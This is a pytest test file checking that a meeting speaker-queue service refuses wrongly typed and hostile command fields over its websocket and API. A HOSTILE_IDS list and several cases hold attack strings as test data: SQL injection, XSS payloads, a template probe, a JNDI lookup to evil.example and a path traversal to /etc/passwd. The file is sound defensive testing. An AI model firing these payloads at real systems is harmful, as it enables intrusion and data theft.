"""Wrong types and hostile values in a command's fields, over the websocket and the API: each is
refused with a code naming the field or the problem, nothing changes, and all are served."""

import json

import pytest

from session.domain.permissions import Role

ROOM = "rt1"


@pytest.fixture
def meeting(live):
    """MEX is speaking (entry 1, timer running); PHL waits (entry 2)."""
    code = live.code(ROOM, Role.CHAIR)
    for command in (
        {"action": "request_floor", "participant": "MEX"},
        {"action": "request_floor", "participant": "PHL"},
        {"action": "call_next"},
    ):
        assert live.api(ROOM, code, **command).status_code == 200
    state = live.state(ROOM)
    assert state["current"]["participant"] == "MEX" and state["queue"][0]["entry"] == 2
    return code


@pytest.fixture
def tablet(live, attack, meeting):
    socket = attack.socket(ROOM, "chair", live.cookie(meeting))
    socket.wait_for('id="current"')
    return socket


def both_doors(live, attack, tablet, chair_code, command: dict, code: str, words: str, status: int) -> None:
    watcher = attack.gallery(ROOM)
    before = attack.snapshot(ROOM)
    message = json.dumps(command)
    got = attack.refused(tablet, message, code)
    assert words in got, got
    assert words in attack.api_refused(attack.post(ROOM, chair_code, message), status, code)
    attack.unchanged(ROOM, before)
    attack.still_served(ROOM, watcher)


NUMBERS = [  # (command, code, words, status)
    ({"action": "remove", "entry": True}, "invalid_field", "'entry' of 'remove' must be a whole number.", 400),
    ({"action": "remove", "entry": False}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": 2.0}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": 2.5}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": "2.0"}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": "2e0"}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": "0x2"}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": "two"}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": [2]}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": {"$gt": 0}}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": "2 OR 1=1"}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": 10**9 + 1}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": 2**63}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": -(2**63) - 1}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": 10**40}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": "99999999999"}, "invalid_field", "must be a whole number", 400),
    ({"action": "remove", "entry": -1}, "not_in_queue", "Entry -1 is not on the list of speakers.", 409),
    ({"action": "remove", "entry": 0}, "not_in_queue", "Entry 0 is not on the list of speakers.", 409),
    ({"action": "remove", "entry": 10**9}, "not_in_queue", "is not on the list of speakers.", 409),
    ({"action": "remove", "entry": 1}, "not_in_queue", "Entry 1 is not on the list", 409),  # the speaker
    ({"action": "remove"}, "invalid_field", "'remove' needs 'entry'.", 400),
    ({"action": "move", "entry": 2, "position": 0}, "invalid_position", "Position must be between 1 and 1.", 409),
    ({"action": "move", "entry": 2, "position": -5}, "invalid_position", "Position must be between 1 and 1.", 409),
    ({"action": "move", "entry": 2, "position": 10**9}, "invalid_position", "Position must be between", 409),
    ({"action": "move", "entry": 2, "position": True}, "invalid_field", "'position' of 'move'", 400),
    (
        {"action": "timer_add", "seconds": True},
        "invalid_field",
        "'seconds' of 'timer_add' must be a whole number.",
        400,
    ),
    ({"action": "timer_add", "seconds": 30.0}, "invalid_field", "must be a whole number", 400),
    ({"action": "timer_add", "seconds": "30s"}, "invalid_field", "must be a whole number", 400),
    ({"action": "timer_add", "seconds": 0}, "invalid_field", "between -3600 and 3600, not 0", 400),
    ({"action": "timer_add", "seconds": 3601}, "invalid_field", "between -3600 and 3600", 400),
    ({"action": "timer_add", "seconds": 10**9}, "invalid_field", "between -3600 and 3600", 400),
    ({"action": "timer_add", "seconds": -(10**9)}, "invalid_field", "between -3600 and 3600", 400),
    ({"action": "timer_add", "seconds": -3600}, "invalid_field", "cannot fall below zero", 400),
]


@pytest.mark.parametrize("command, code, words, status", NUMBERS, ids=[json.dumps(c[0])[:60] for c in NUMBERS])
def test_a_wrong_number_is_refused(live, attack, meeting, tablet, command, code, words, status):
    both_doors(live, attack, tablet, meeting, command, code, words, status)


TEXT_AND_CHOICES = [
    (
        {"action": "request_floor", "participant": {}},
        "invalid_field",
        "'participant' of 'request_floor' must be text.",
        400,
    ),
    ({"action": "request_floor", "participant": ["MEX"]}, "invalid_field", "must be text", 400),
    ({"action": "request_floor", "participant": 484}, "invalid_field", "must be text", 400),
    ({"action": "request_floor", "participant": True}, "invalid_field", "must be text", 400),
    (
        {"action": "request_floor", "participant": "BRA", "type": "filibuster"},
        "invalid_field",
        "'type' must be one of: statement, point_of_order, right_of_reply, question, response",
        400,
    ),
    (
        {"action": "request_floor", "participant": "BRA", "type": "STATEMENT"},
        "invalid_field",
        "'type' must be one of",
        400,
    ),
    ({"action": "request_floor", "participant": "BRA", "type": 0}, "invalid_field", "'type' of 'request_floor'", 400),
    ({"action": "request_floor", "participant": "BRA", "type": ["statement"]}, "invalid_field", "must be text", 400),
    (
        {"action": "request_floor", "participant": "BRA", "level": "emperor"},
        "invalid_field",
        "'level' must be one of",
        400,
    ),
    ({"action": "request_floor", "participant": "BRA", "level": 1}, "invalid_field", "'level' of 'request_floor'", 400),
    ({"action": "set_balanced", "on": 1}, "invalid_field", "'on' of 'set_balanced' must be true or false.", 400),
    ({"action": "set_balanced", "on": "maybe"}, "invalid_field", "must be true or false", 400),
    ({"action": "set_balanced", "on": {}}, "invalid_field", "must be true or false", 400),
    (
        {"action": "rule_point_of_order", "entry": 1, "ruling": {"text": "upheld"}},
        "invalid_field",
        "'ruling' of 'rule_point_of_order' must be text.",
        400,
    ),
    (
        {"action": "add_participant", "name": "x" * 121, "category": "ngo"},
        "invalid_field",
        "'name' is longer than 120 characters.",
        400,
    ),
    (
        {"action": "add_participant", "name": "Walk-in", "category": "cabal"},
        "invalid_field",
        "'category' must be one of",
        400,
    ),
    (
        {"action": "add_participant", "name": "Walk-in", "category": "ngo", "id": "X'; DROP TABLE event;--"},
        "invalid_field",
        "An id is 2 to 12 capital letters or digits",
        400,
    ),
    (
        {"action": "add_participant", "name": "Walk-in", "category": "ngo", "id": "MEX"},
        "duplicate_participant",
        "There is already a participant 'MEX'.",
        409,
    ),
    ({"action": "annotate", "entry": 1, "notes": "n" * 4001}, "invalid_field", "'notes' is longer than 4000", 400),
    ({"action": "annotate", "entry": 1, "summary": "perhaps"}, "invalid_field", "must be true or false", 400),
]


@pytest.mark.parametrize(
    "command, code, words, status", TEXT_AND_CHOICES, ids=[json.dumps(c[0])[:60] for c in TEXT_AND_CHOICES]
)
def test_wrong_text_or_an_out_of_range_choice_is_refused(live, attack, meeting, tablet, command, code, words, status):
    both_doors(live, attack, tablet, meeting, command, code, words, status)


HOSTILE_IDS = [
    "MEX' OR '1'='1",
    "MEX'; DROP TABLE event; --",
    "' UNION SELECT code_hash FROM accesscoderow --",
    "%",
    "_",
    "*",
    "mex",
    "MEX\x00",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "../../../etc/passwd",
    "M\u200bEX",
    "x" * 500,
]


@pytest.mark.parametrize("participant", HOSTILE_IDS, ids=[p[:30] for p in HOSTILE_IDS])
@pytest.mark.parametrize("action", ["request_floor", "call", "withdraw"])
def test_a_hostile_participant_id_is_an_unknown_participant(live, attack, meeting, tablet, participant, action):
    watcher = attack.gallery(ROOM)
    before = attack.snapshot(ROOM)
    message = json.dumps({"action": action, "participant": participant, "type": "statement"})
    code = "not_in_queue" if action == "withdraw" else "unknown_participant"  # a withdraw looks in the queue only
    tablet.send(message)
    frame = tablet.wait_for(r'id="flash"[^>]*role="alert"')
    got, words = attack.flash_of(frame)
    assert got == code, words
    if code == "unknown_participant":
        assert words == f"Unknown participant '{participant.strip()[:40]}'."
    assert "<script>" not in frame and "<img" not in frame  # echoed, escaped
    attack.api_refused(attack.post(ROOM, meeting, message), 409, code)
    attack.unchanged(ROOM, before)
    assert live.state(ROOM)["version"] == before["version"]  # the event log is intact
    attack.still_served(ROOM, watcher)
    assert "<script>alert(1)" not in "".join(watcher.frames)


def test_a_delegate_sending_wrong_types_is_refused_before_its_participant_is_filled_in(live, attack, meeting):
    watcher = attack.gallery(ROOM)
    mexico = attack.socket(ROOM, "delegate", live.cookie(live.code(ROOM, Role.DELEGATE, "BRA")))
    mexico.wait_for('id="my-request"')
    before = attack.snapshot(ROOM)
    for command, words in [
        ({"action": "request_floor", "participant": {"id": "BRA"}}, "must be text"),
        ({"action": "request_floor", "type": 1}, "'type' of 'request_floor' must be text."),
        ({"action": "withdraw", "entry": 1.0}, "'entry' of 'withdraw' must be a whole number."),
        ({"action": "request_floor", "level": "head_of_state", "type": ["point_of_order"]}, "must be text"),
    ]:
        assert words in attack.refused(mexico, json.dumps(command), "invalid_field")
    attack.unchanged(ROOM, before)
    mexico.send(json.dumps({"action": "request_floor"}))
    mexico.wait_for("You are number 2 in the queue")
    watcher.wait_for("Brazil")


@pytest.mark.parametrize(
    "request_id, words",
    [
        (123, "'request_id' must be text of at most 80 characters."),
        (True, "'request_id' must be text"),
        (["r-1"], "'request_id' must be text"),
        ({"id": "r-1"}, "'request_id' must be text"),
        ("r" * 81, "at most 80 characters"),
    ],
)
def test_a_request_id_of_the_wrong_type_is_refused(live, attack, meeting, tablet, request_id, words):
    both_doors(
        live, attack, tablet, meeting, {"action": "close_list", "request_id": request_id}, "invalid_field", words, 400
    )


LONE_SURROGATES = {  # valid JSON escapes for strings Python holds but UTF-8 cannot encode
    "participant": '{"action": "request_floor", "participant": "MEX\\ud800", "type": "statement"}',
    "request_id": '{"action": "close_list", "request_id": "r-\\udc00"}',
    "name": '{"action": "add_participant", "name": "Walk\\ud83din", "category": "ngo"}',
}


@pytest.mark.parametrize("field", list(LONE_SURROGATES))
@pytest.mark.parametrize("door", ["websocket", "api"])
def test_a_string_that_is_not_unicode_text_is_refused_by_name(live, attack, meeting, tablet, door, field):
    watcher = attack.gallery(ROOM)
    before = attack.snapshot(ROOM)
    message = LONE_SURROGATES[field]
    try:
        if door == "websocket":
            code, _ = attack.answer(tablet, message, timeout=3)
            assert code in {"invalid_json", "invalid_field", "unknown_participant", "not_point_of_order"}
            attack.unchanged(ROOM, before)
            attack.chair_still_acts(tablet)
        else:
            response = attack.post(ROOM, meeting, message)
            assert 400 <= response.status_code < 500 and response.json()["error"]["code"]
            attack.unchanged(ROOM, before)
    finally:
        attack.still_served(ROOM, watcher)
